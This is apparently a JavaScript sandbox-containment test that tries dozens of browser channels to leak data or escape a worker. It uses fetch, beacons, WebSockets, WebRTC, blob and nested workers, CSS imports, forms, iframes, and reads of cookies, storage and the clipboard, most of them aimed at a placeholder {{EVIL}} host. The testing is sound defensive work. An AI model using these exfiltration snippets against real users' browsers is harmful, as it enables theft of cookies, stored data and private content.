// Every attempt of the list, in one program. Each tells "blocked: why" or "REACHED: what" or, where a thing is
// harmless by itself, "allowed". What really left the browser, the two servers of the test know.
const SITE = '{{SITE}}', EVIL = '{{EVIL}}', STUN = '{{STUN}}';
const WS = (url) => url.replace('http', 'ws');
const blob = (text) => self.__makeUrl(new self.__Blob([text], { type: 'text/javascript' }));
const opened = (target, good, bad = 'error') => new Promise((resolve, reject) => {
  target.addEventListener ? (target.addEventListener(good, () => resolve('opened')), target.addEventListener(bad, () => reject(new Error('failed'))))
    : reject(new Error('no events'));
});
// QuickJS evaluates strings in itself, which leads nowhere; the worker's own realm must not.
const inside = (v) => (typeof WebAssembly === 'undefined' ? 'allowed' : v);
// What a nested worker or module says about its own try.
const answer = (worker) => new Promise((resolve, reject) => {
  worker.onmessage = (e) => (e.data === 'blocked' ? reject(new Error('blocked inside')) : resolve(e.data));
  worker.onerror = () => reject(new Error('worker error'));
});
const add = (tag, what) => {
  const made = Object.assign(document.createElement(tag), what);
  document.body.append(made);
  return made;
};

const attempts = {
  'fetch own API': () => fetch(`${SITE}/stolen?1`, { credentials: 'include' }),
  'fetch own API, no-cors': () => fetch(`${SITE}/stolen?2`, { mode: 'no-cors', credentials: 'include' }),
  'post to own API': () => fetch(`${SITE}/stolen?3`, { method: 'POST', mode: 'no-cors', body: 'x', credentials: 'include' }),
  'fetch a runtime file with data': () => fetch(`${SITE}/web/quickjs.wasm?stolen`),
  'fetch a missing runtime file': () => fetch(`${SITE}/web/404?stolen`),
  'fetch out of the runtime folder': () => fetch(`${SITE}/web/..%2fstolen`),
  'fetch evil': () => fetch(`${EVIL}/stolen?4`),
  'fetch evil, no-cors': () => fetch(`${EVIL}/stolen?5`, { mode: 'no-cors' }),
  'fetch evil, keepalive': () => fetch(`${EVIL}/stolen?6`, { keepalive: true, mode: 'no-cors' }),
  'fetch later': () => fetchLater(`${EVIL}/stolen?6b`, { activateAfter: 0 }),
  'fetch data:': () => fetch('data:text/plain,x'),
  'XHR own': () => { const x = new XMLHttpRequest(); x.open('GET', `${SITE}/stolen?7`); x.send(); return opened(x, 'load'); },
  'XHR own, sync': () => { const x = new XMLHttpRequest(); x.open('GET', `${SITE}/stolen?8`, false); x.send(); return x.status; },
  'XHR evil': () => { const x = new XMLHttpRequest(); x.open('GET', `${EVIL}/stolen?9`); x.send(); return opened(x, 'load'); },
  'EventSource': () => opened(new EventSource(`${EVIL}/stolen?10`), 'open'),
  'sendBeacon': () => navigator.sendBeacon(`${EVIL}/stolen?11`, 'x'),
  'WebSocket own': () => opened(new WebSocket(`${WS(SITE)}/stolen?12`), 'open'),
  'WebSocket evil': () => opened(new WebSocket(`${WS(EVIL)}/stolen?13`), 'open'),
  'WebSocketStream': () => new WebSocketStream(`${WS(EVIL)}/stolen?14`).opened,
  'WebTransport': () => new WebTransport(`${EVIL.replace('http:', 'https:')}/stolen`).ready,
  'WebRTC': () => { const c = new RTCPeerConnection({ iceServers: [{ urls: STUN }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o)); },
  'direct sockets': () => new TCPSocket('127.0.0.1', 80).opened,
  'caches': () => caches.open('app-1'),
  'indexedDB': () => opened(indexedDB.open('tandem'), 'success'),
  'indexedDB list': () => indexedDB.databases(),
  'localStorage': () => localStorage.getItem('secret'),
  'sessionStorage': () => sessionStorage.getItem('secret'),
  'cookies': () => document.cookie,
  'cookieStore': () => cookieStore.getAll(),
  'private files': () => navigator.storage.getDirectory(),
  'storage buckets': () => navigator.storageBuckets.open('x'),
  'locks': () => navigator.locks.request('app', () => 'held'),
  'BroadcastChannel': () => { const c = new BroadcastChannel('app'); c.postMessage('stolen'); return 'allowed'; },
  'SharedWorker': () => opened(new SharedWorker(`${SITE}/page.js?stolen`), 'open'),
  'service worker register': () => navigator.serviceWorker.register(`${SITE}/page.js?stolen`),
  'service worker controller': () => navigator.serviceWorker.controller.postMessage('stolen'),
  'parent document': () => parent.document.title,
  'top location': () => top.location.href,
  'top navigation': () => { top.location = `${EVIL}/stolen?15`; return 'set'; },
  'opener': () => opener.document.title,
  'popup': () => { const w = window.open(`${EVIL}/stolen?16`); if (!w) throw new Error('null'); return 'opened'; },
  'alert': () => { alert('x'); return 'shown'; },
  'own navigation': () => { location = `${EVIL}/stolen?17`; throw new Error('set, to no effect'); },
  'importScripts own': () => importScripts(`${SITE}/page.js?stolen`),
  'importScripts evil': () => importScripts(`${EVIL}/stolen?18`),
  'importScripts data:': () => importScripts('data:text/javascript,self.imported=1'),
  'import() own': () => import(`${SITE}/page.js?stolen`),
  'import() evil': () => import(`${EVIL}/stolen?19`),
  'import() data:': () => import('data:text/javascript,export default 1'),
  'import() blob:, which fetches': () => import(blob(`export default await fetch('${EVIL}/stolen?20')`)),
  'nested worker blob:, which fetches': () => answer(new Worker(blob(`fetch('${EVIL}/stolen?21').then(() => postMessage('got'), () => postMessage('blocked'))`))),
  'nested worker blob:, which imports': () => answer(new Worker(blob(`try { importScripts('${EVIL}/stolen?22'); postMessage('got') } catch { postMessage('blocked') }`))),
  'nested worker data:': () => answer(new Worker('data:text/javascript,postMessage(1)')),
  'nested worker own script': () => answer(new Worker(`${SITE}/page.js?stolen`)),
  'module worker blob:': () => answer(new Worker(blob(`fetch('${EVIL}/stolen?23').then(() => postMessage('got'), () => postMessage('blocked'))`), { type: 'module' })),
  'eval': () => inside(eval('1')),
  'new Function': () => inside(new Function('return 1')()),
  'constructor.constructor': () => inside((() => {}).constructor('return 1')()),
  'setTimeout of a string': () => { self.__ran = 0; setTimeout('self.__ran = 1'); return new Promise((resolve, reject) => setTimeout(() => (self.__ran ? resolve('ran') : reject(new Error('not run'))), 50)); },
  'compileStreaming': () => WebAssembly.compileStreaming(fetch(`${SITE}/web/quickjs.wasm?stolen`)),
  'font': () => new FontFace('x', `url(${EVIL}/stolen?24)`).load(),
  'image': () => { new Image().src = `${EVIL}/stolen?25`; return 'set'; },
  'style': () => { document.body.style.background = `url(${EVIL}/stolen?26)`; return 'set'; },
  'style sheet': () => add('style', { textContent: `@import url(${EVIL}/stolen?27); @font-face { font-family: x; src: url(${EVIL}/stolen?28) } * { font-family: x }` }),
  'script': () => add('script', { src: `${EVIL}/stolen?29` }),
  'form': () => add('form', { action: `${EVIL}/stolen?30`, method: 'post' }).submit() ?? 'set',
  'iframe': () => add('iframe', { src: `${EVIL}/stolen?31` }),
  'iframe own': () => add('iframe', { src: `${SITE}/stolen?32` }),
  'media and objects': () => [['audio', 'src'], ['video', 'src'], ['embed', 'src'], ['object', 'data']].map(([tag, key]) => add(tag, { [key]: `${EVIL}/stolen?33` })) && 'set',
  'link': () => ['preconnect', 'stylesheet', 'prefetch', 'preload', 'modulepreload', 'manifest', 'icon'].map((rel) => add('link', { rel, as: 'script', href: `${EVIL}/stolen?34` })) && 'set',
  'ping': () => add('a', { href: '#x', ping: `${EVIL}/stolen?35` }).click() ?? 'set',
  'notification': () => { new Notification('x'); if (Notification.permission !== 'granted') throw new Error('denied'); return 'shown'; },
  'geolocation': () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  'clipboard': () => navigator.clipboard.readText(),
  'usb, hid, serial': () => Promise.any([navigator.usb.requestDevice({ filters: [] }), navigator.hid.requestDevice({ filters: [] }), navigator.serial.requestPort()]),
  'push': () => self.registration.pushManager.subscribe(),
  'clients': () => clients.matchAll(),
  'report': () => { throw new Error(String(new ReportingObserver(() => {}).observe())); },
};

(async () => {
  const limit = (p) => Promise.race([p, new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 2000))]);
  const skip = globalThis.__skip ?? [];
  const tried = Object.entries(attempts).filter(([name]) => !skip.includes(name)).map(async ([name, attempt]) => {
    try {
      const got = await limit((async () => attempt())());
      return [name, got === 'allowed' ? 'allowed' : `REACHED: ${String(got).slice(0, 80)}`];
    } catch (err) {
      return [name, `blocked: ${String(err?.message ?? err?.type ?? err).slice(0, 80)}`];
    }
  });
  for (const t of tried) console.log((await t).join(' -> '));
  globalThis.exit?.();
  return 'done';
})();
